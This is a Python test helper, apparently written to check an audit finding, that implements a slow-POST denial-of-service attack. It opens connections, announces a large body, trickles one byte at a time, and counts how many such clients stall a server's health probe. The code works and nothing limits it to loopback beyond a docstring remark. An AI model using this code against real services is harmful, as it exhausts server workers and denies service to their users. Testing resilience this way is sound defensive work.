"""The slow-client attack (issue 11, finding 2): connections that trickle a request body.

Each connection sends a complete set of request headers announcing a body, then one byte
of that body per tick. A server that hands the connection to a sync worker before the
body is complete loses that worker for as long as the trickle lasts; a buffering proxy
holds the connection itself and only passes complete requests on.
"""

from __future__ import annotations

import socket
import threading
import time

import requests

#: Bytes each trickled body announces: far more than a test ever sends, so none completes.
BODY_LENGTH = 10_000


class SlowClients:
    """Open trickling connections to ``host:port`` and keep them trickling until closed.

    Args:
        host, port: the server under attack (loopback only).
        interval: seconds between two bytes on each connection (default 1).
        path: the POST target the headers name.

    Use as a context manager; ``add(n)`` opens ``n`` more connections; ``alive`` counts
    those the server has not closed.
    """

    def __init__(self, host: str, port: int, interval: float = 1.0, path: str = "/api/v1/appointments"):
        self.address = (host, port)
        self.interval = interval
        self.head = (
            f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {BODY_LENGTH}\r\n\r\n"
        ).encode()
        self.sockets: list[socket.socket] = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._trickle, daemon=True)

    def add(self, n: int) -> None:
        """Open ``n`` connections: headers plus the body's first byte on each."""
        for _ in range(n):
            sock = socket.create_connection(self.address, timeout=5)
            sock.sendall(self.head + b"{")
            with self._lock:
                self.sockets.append(sock)

    @property
    def alive(self) -> int:
        with self._lock:
            return len(self.sockets)

    def _trickle(self) -> None:
        while not self._stop.wait(self.interval):
            with self._lock:
                for sock in list(self.sockets):
                    try:
                        sock.send(b" ")
                    except OSError:  # the server gave up on this one
                        self.sockets.remove(sock)
                        sock.close()

    def __enter__(self) -> SlowClients:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(5)
        with self._lock:
            for sock in self.sockets:
                sock.close()
            self.sockets.clear()


def answers(url: str, timeout: float = 2.0) -> bool:
    """Return True when ``GET url`` gives a 200 within ``timeout`` seconds."""
    try:
        return requests.get(url, timeout=timeout).status_code == 200
    except requests.RequestException:
        return False


def stall_point(
    host: str, port: int, probe_url: str, max_clients: int, settle: float = 0.5, probes: int = 2, timeout: float = 2.0
) -> int | None:
    """Add slow clients one by one until ``probe_url`` stops answering.

    After each new connection, waits ``settle`` seconds and probes ``probe_url``
    ``probes`` times (``timeout`` seconds each); the service counts as stalled when no
    probe gets a 200.

    Returns:
        The number of slow clients that stalled the service, or None when
        ``max_clients`` of them did not.
    """
    with SlowClients(host, port) as attack:
        for n in range(1, max_clients + 1):
            attack.add(1)
            time.sleep(settle)
            if not any(answers(probe_url, timeout) for _ in range(probes)):
                return n
    return None
